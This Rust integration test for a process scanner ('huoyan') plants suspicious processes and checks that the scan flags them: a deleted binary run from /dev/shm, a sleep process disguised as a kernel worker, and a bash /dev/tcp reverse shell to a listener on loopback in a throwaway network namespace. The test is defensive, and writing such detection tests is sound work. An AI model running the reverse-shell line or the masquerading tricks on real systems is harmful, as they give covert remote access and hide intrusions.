//! Live process checks on real processes: a binary run from /dev/shm and deleted, a process
//! disguised as `[kworker/1:2]`, and a shell whose stdin/stdout is a TCP socket to a listener in
//! a network namespace the test creates. Needs root (CI runs as root).

use std::os::unix::process::CommandExt;
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use serde_json::Value;

struct Cleanup {
    children: Vec<Child>,
    netns: Option<String>,
    files: Vec<std::path::PathBuf>,
}

impl Drop for Cleanup {
    fn drop(&mut self) {
        for c in &mut self.children {
            let _ = c.kill();
            let _ = c.wait();
        }
        if let Some(ns) = &self.netns {
            let _ = Command::new("ip").args(["netns", "del", ns]).status();
        }
        for f in &self.files {
            let _ = std::fs::remove_file(f);
        }
    }
}

/// One `huoyan scan --only process --json`: the findings.
fn scan() -> Vec<Value> {
    let out = Command::new(env!("CARGO_BIN_EXE_huoyan"))
        .args(["scan", "--only", "process", "--json"])
        .output()
        .expect("run huoyan");
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).expect("valid JSON"))
        .filter(|v| v["record"] == "finding")
        .collect()
}

fn of(all: &[Value], check: &str) -> Vec<Value> {
    all.iter()
        .filter(|v| v["check_id"] == check)
        .cloned()
        .collect()
}

fn has_pid(findings: &[Value], pid: u32) -> bool {
    findings.iter().any(|f| {
        f["pids"]
            .as_array()
            .is_some_and(|p| p.iter().any(|x| x == pid))
    })
}

#[test]
fn live_processes_are_reported_with_their_pids() {
    if !huoyan_testkit::require_root("needs root for network namespaces") {
        return;
    }
    let tag = std::process::id();
    let mut cleanup = Cleanup {
        children: Vec::new(),
        netns: None,
        files: Vec::new(),
    };

    // 1. A binary started from /dev/shm, then deleted.
    let dropped = std::path::PathBuf::from(format!("/dev/shm/huoyan-test-{tag}"));
    std::fs::copy("/bin/sleep", &dropped).expect("copy sleep to /dev/shm");
    cleanup.files.push(dropped.clone());
    let deleted = Command::new(&dropped)
        .arg("300")
        .spawn()
        .expect("start dropped binary");
    let deleted_pid = deleted.id();
    cleanup.children.push(deleted);
    std::thread::sleep(Duration::from_millis(100));
    std::fs::remove_file(&dropped).expect("delete dropped binary");

    // 2. A user process named like a kernel worker.
    let fake = Command::new("/bin/sleep")
        .arg0("[kworker/1:2]")
        .arg("300")
        .spawn()
        .expect("start fake kworker");
    let fake_pid = fake.id();
    cleanup.children.push(fake);

    // 3. A listener and a reverse shell inside a namespace of our own.
    let ns = format!("huoyan-scan-{tag}");
    assert!(Command::new("ip")
        .args(["netns", "add", &ns])
        .status()
        .expect("ip")
        .success());
    cleanup.netns = Some(ns.clone());
    assert!(Command::new("ip")
        .args(["netns", "exec", &ns, "ip", "link", "set", "lo", "up"])
        .status()
        .expect("ip")
        .success());
    let mut listener = Command::new("ip")
        .args(["netns", "exec", &ns, "python3", "-c"])
        .arg("import socket,time\ns=socket.socket()\ns.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1)\ns.bind(('127.0.0.1',4444))\ns.listen(1)\nprint('ready',flush=True)\nc,_=s.accept()\ntime.sleep(300)")
        .stdout(Stdio::piped())
        .spawn()
        .expect("start listener");
    // Wait until it listens (python starts slowly on a loaded machine).
    let mut ready = String::new();
    if let Some(out) = listener.stdout.as_mut() {
        use std::io::BufRead;
        let _ = std::io::BufReader::new(out).read_line(&mut ready);
    }
    cleanup.children.push(listener);
    assert_eq!(ready.trim(), "ready", "listener did not start");
    let shell = Command::new("ip")
        .args(["netns", "exec", &ns, "bash", "-c"])
        .arg("exec 3<>/dev/tcp/127.0.0.1/4444; exec bash -i <&3 >&3 2>&3")
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("start reverse shell");
    let shell_pid = shell.id();
    cleanup.children.push(shell);
    std::thread::sleep(Duration::from_millis(700));

    // Under load the shell may take a moment to connect: poll (bounded) until all four appear.
    let deadline = std::time::Instant::now() + Duration::from_secs(60);
    let (mut deleted_findings, mut writable, mut fakes, mut shells);
    loop {
        let all = scan();
        deleted_findings = of(&all, "process.deleted_exe");
        writable = of(&all, "process.writable_exe");
        fakes = of(&all, "process.fake_kthread");
        shells = of(&all, "process.socket_stdio");
        let all = has_pid(&deleted_findings, deleted_pid)
            && has_pid(&writable, deleted_pid)
            && has_pid(&fakes, fake_pid)
            && has_pid(&shells, shell_pid);
        if all || std::time::Instant::now() > deadline {
            break;
        }
        std::thread::sleep(Duration::from_millis(500));
    }
    assert!(
        has_pid(&deleted_findings, deleted_pid),
        "deleted exe pid {deleted_pid}: {deleted_findings:#?}"
    );
    assert!(
        has_pid(&writable, deleted_pid),
        "/dev/shm exe pid {deleted_pid}: {writable:#?}"
    );
    assert!(
        has_pid(&fakes, fake_pid),
        "fake kworker pid {fake_pid}: {fakes:#?}"
    );
    assert!(
        has_pid(&shells, shell_pid),
        "reverse shell pid {shell_pid}: {shells:#?}"
    );
    assert!(shells.iter().any(|f| f["severity"] == "critical"));
}
